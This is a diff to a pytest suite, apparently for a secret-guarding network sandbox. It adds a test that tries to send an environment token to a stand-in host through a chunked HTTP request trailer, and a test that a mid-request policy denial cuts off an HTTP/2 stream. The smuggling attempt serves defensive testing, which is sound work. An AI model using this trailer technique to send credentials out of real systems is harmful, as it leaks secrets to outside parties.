@@ -16,7 +16,7 @@ import urllib.request
 import pytest
 
 from kit import IS_ROOT, proc_start, wait_for
-from net_kit import PYTHON, Cell
+from net_kit import PYTHON, Cell, HttpCanary
 from tls_kit import Authority, H2Upstream, Upstream, believe, set_secret
 
 VALUE = "v4lue/With+odd=chars-77"
@@ -232,6 +232,22 @@ def test_a_stranger_is_not_told_in_pieces(home, upstream):
     assert not upstream.seen(VALUE) and not upstream.seen(placeholder(cell)), r.out
 
 
+def test_a_stranger_is_not_told_behind_the_body(home, upstream):
+    """A placeholder in the trailer of a request, whatever the host."""
+    canary = HttpCanary()
+    cell = bound(home, upstream, "bearer", "--allow", f"other.test:{canary.port}=127.0.0.1")
+    try:
+        send = f"""b"POST / HTTP/1.1\\r\\nHost: other.test:{canary.port}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nX-Sum: " + word + b"\\r\\n\\r\\n" """
+        cell.tries(f"word = os.environ['TOK'].encode(); say(tcp('other.test', {canary.port}, {send}, 1))")
+        assert not [s for s in canary.seen if placeholder(cell).encode() in s], canary.seen
+        assert cell.event("denied", what="secret")["secret"] == "TOK"
+        # the control: another word there does arrive
+        cell.tries(f"word = b'ordinary'; say(tcp('other.test', {canary.port}, {send}, 1))")
+        assert [s for s in canary.seen if b"X-Sum: ordinary" in s], canary.seen
+    finally:
+        canary.close()
+
+
 # -- echoes: T-051, T-052 ----------------------------------------------------------------------------------------------
 def forms(value):
     out = {value, urllib.parse.quote(value, safe=""), base64.b64encode(value.encode()).decode().rstrip("=")}
@@ -284,6 +300,15 @@ def test_http2(home, authority, tmp_path):
             assert VALUE not in body and VALUE[:-2] not in body
         _, body, _ = curl(cell, "--http2", f"https://api.test:{up.port}/x", "-H", "X-Other: $TOK")
         assert "/x" not in [q[":path"] for q in up.requests]
+        # A policy that denies the request under way ends it, and the connection serves others.
+        p = home.popen("exec", cell.id, "--", "curl", "-sSN", "-m", "30", "--http2", f"https://api.test:{up.port}/hang")
+        assert p.stdout.read(4) == b"half"
+        cell.set("--deny", f"api.test:{up.port}/hang")
+        assert p.wait(20) not in (0, 28) and p.stdout.read() == b""
+        p.stdout.close()
+        p.stderr.close()
+        assert "request under way" in cell.event("denied", what="policy")["why"]
+        assert curl(cell, "--http2", f"https://api.test:{up.port}/")[0] == "200"
     finally:
         up.close()
 
